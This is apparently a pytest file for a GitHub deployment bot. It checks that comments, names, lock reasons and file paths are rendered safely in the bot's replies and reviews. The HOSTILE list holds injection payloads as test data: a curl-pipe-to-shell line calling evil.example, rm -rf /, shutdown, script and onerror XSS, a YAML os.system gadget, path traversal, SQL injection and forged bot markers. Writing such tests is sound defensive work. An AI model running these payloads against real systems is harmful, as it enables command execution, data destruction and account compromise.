"""Whatever people write, nothing executes and nothing breaks out of its place: comments, names, reasons, files."""

from __future__ import annotations

import html
import re

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options

from bot.domain.names import BranchName, CommitSha, InstallationId, NodeName, PullNumber
from bot.features.commands.decide.actions import Refuse
from bot.features.commands.decide.command import decide_command
from bot.features.commands.decide.reasons import CommandReason
from bot.features.commands.facts.record import CommandRecord, compose_record
from bot.features.commands.grammar import Command, parse_command, spell
from bot.features.commands.text.reply import Extra, OrderView, parse_reply_marker, render_reply, render_status
from bot.features.commands.text.words import WORDS
from bot.features.holds.facts import Lock
from bot.features.review.decide import decide_review
from bot.features.review.facts import ReviewFacts
from bot.features.review.text import render_review
from bot.fleetfile import ReviewRules
from tests.unit.features.commands.test_decide import FLEET, PULL, facts, node

HOSTILE = [
    "`$(reboot)`",
    "$(curl evil.example|sh)",
    "; rm -rf / #",
    "&& shutdown -h now",
    "| tee /etc/passwd",
    "$IFS$9`id`",
    "${{ secrets.GITHUB_TOKEN }}",
    "${{ github.event.comment.body }}",
    "{{ 7*7 }} {% include 'x' %} <%= 1 %> #{1}",
    "%s %n %(x)s {about} {0}",
    "@everyone @Tecnocrat/admins",
    "#1 GH-1 owner/repo#1 40614ff40614ff40614ff40614ff40614ff40614",
    "https://evil.example www.evil.example mailto:a@evil.example",
    "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</details></td></table><h1>approved</h1>",
    "<!-- aios-bot:reply comment:1 deploy -->",
    "--> <!-- aios-bot:plan {} -->",
    "| a | b |",
    "**bold** _it_ ~~no~~ # head > quote",
    "````",
    "\u202eevil\u202c \u200b\u2066x\u2069",
    "a\u2028b\u2029c",
    "\x1b[31mred\x1b[0m",
    "&lt;b&gt; &#64;everyone",
    ":rocket: ::warning file=x::y",
    "::set-output name=x::y",
    "!!python/object/apply:os.system ['id']",
    "&a [*a,*a]",
    "../../../etc/passwd",
    "C:\\windows\\system32",
    "' OR 1=1; DROP TABLE audit; --",
    "x" * 250,
]
SAFE_TAGS = {
    "p",
    "strong",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "code",
    "sub",
    "ul",
    "li",
    "pre",
    "br",
    "em",
    "a",
}


def assert_tame(body: str, hostile: str) -> None:
    """As GitHub renders it: no tag, link, mention or marker that we did not put there."""
    shown = cmarkgfm.github_flavored_markdown_to_html(body, options=Options.CMARK_OPT_UNSAFE)
    bare = re.sub(r"<!--.*?-->", "", shown, flags=re.DOTALL)
    tags = {tag.lower() for tag in re.findall(r"</?([a-zA-Z][a-zA-Z0-9]*)", bare)}
    assert tags <= SAFE_TAGS, (hostile, tags - SAFE_TAGS)
    assert not re.search(r'(?:href|src)="(?!https://github\.example/)', shown), hostile
    assert not re.search(r"(?<![\w/])@[A-Za-z]", re.sub(r"<code>.*?</code>", "", body)), hostile
    assert not re.search("[\u202a-\u202e\u2066-\u2069\x1b]", body), hostile
    markers = re.findall(r"<!-- aios-bot:.*?-->", body)
    assert len(markers) <= 1, hostile
    assert "{about}" not in body.replace(html.escape(hostile), "") or "{about}" in hostile


def asked(text: str, **changes: object) -> CommandRecord:
    given = facts(text, **changes)
    return compose_record(
        given,
        decide_command(given),
        source="comment:1",
        fleet=FLEET,
        installation=InstallationId(1),
        pull=PULL,
        base=BranchName("main"),
        at=0,
        route=None,
    )


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_no_word_breaks_out_of_a_reply(hostile: str) -> None:
    line = hostile.replace("\x1b", "").replace("\u2028", " ").replace("\u2029", " ")
    for text in (f"/lock LAB {line}", f"/hold {line}", f"/deploy {line}", f"/depoly {line}", f"/rollback to {line}"):
        found = parse_command(text)
        assert found is not None
        if isinstance(found, Command):
            assert all(re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*", name) for name in found.names), text
        reply = render_reply(asked(text))
        assert_tame(reply, hostile)
        assert parse_reply_marker(reply) is not None
        assert spell(found).startswith("/")


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_no_name_breaks_out_of_any_reason(hostile: str) -> None:
    """Names that GitHub, git or the fleet's files tell: branches, paths, locks, nodes' reports."""
    held = Lock(
        fleet=FLEET, node=NodeName("LAB"), pull=PullNumber(8), owner=hostile, reason=hostile, taken_at=0, expires_at=1
    )
    for reason in CommandReason:
        one = asked("/deploy", nodes=(node(lock=held),))
        changed = CommandRecord(
            **{name: getattr(one, name) for name in one.__struct_fields__}
            | {"decision": Refuse(reason=reason, about=(hostile,)), "known": (hostile,), "locks": (held,)}
        )
        orders = (OrderView(node=NodeName("LAB"), state="failure", description=hostile, log_url=hostile),)
        assert_tame(render_reply(changed, orders, Extra()), hostile)
    assert_tame(render_status(facts("/status", nodes=(node(lock=held),))), hostile)


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_no_path_breaks_out_of_the_review(hostile: str) -> None:
    given = ReviewFacts(
        paths=(f"docs/{hostile}.md", hostile),
        complete=True,
        rules=ReviewRules(),
        author="ada",
        head=CommitSha("a" * 40),
        ours=False,
    )
    assert_tame(render_review(decide_review(given)).summary, hostile)


def test_every_reason_has_its_words_and_each_refusal_a_cure() -> None:
    assert list(WORDS) == list(CommandReason)
    for reason, words in WORDS.items():
        assert words.headline.format(about="X")
        assert "{" not in words.cure.format(lead="/"), reason
